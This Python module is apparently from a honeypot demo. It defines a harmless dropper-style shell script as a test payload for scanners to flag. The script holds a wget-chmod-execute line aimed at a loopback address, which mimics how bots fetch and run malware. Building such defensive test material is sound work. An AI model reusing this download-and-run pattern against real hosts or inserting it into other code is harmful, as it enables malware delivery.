# SPDX-License-Identifier: MIT
"""The file the demo's attackers "drop" (kept apart so every attack module can name it)."""

from __future__ import annotations

#: What the demo's attacker "drops": a harmless script shaped like the droppers bots fetch (walk to a writable
#: directory, fetch, chmod, run), so the scanners have something to flag. Nothing ever runs it.
PAYLOAD = (
    b"#!/bin/sh\n# honeyfarm demo payload: harmless text served from loopback; honeyfarm never runs what it catches\n"
    b"cd /tmp || cd /var/run || cd /mnt\n"
    b"wget http://127.0.0.1/demo.x86 -O demo.x86; chmod 777 demo.x86; ./demo.x86 honeyfarm.demo\n"
)
